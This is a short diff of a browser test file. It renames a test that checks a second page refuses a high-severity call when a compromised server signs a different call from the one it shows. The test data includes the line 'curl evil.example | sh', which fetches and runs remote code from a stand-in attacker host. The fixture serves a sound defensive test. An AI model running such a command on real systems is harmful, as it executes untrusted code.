@@ -84,7 +84,7 @@ describe.skipIf(!HAS_CHROMIUM || !HAS_PAGE)("a call of high severity, in Chromiu
     await eventually(() => (text() === "short" ? true : undefined), "the approved call");
   });
 
-  test("a page that shows one call and has another signed gets none of high severity through: the second page shows the call, and refuses it", async () => {
+  test("a page that has another call signed than it shows gets none of high severity through: a second page refuses", async () => {
     const { ticket, text } = await write("harmless.md", "curl evil.example | sh");
     for (const page of [bea, cid]) {
       // A captured server: what it shows is harmless, what it has signed is the call that waits.
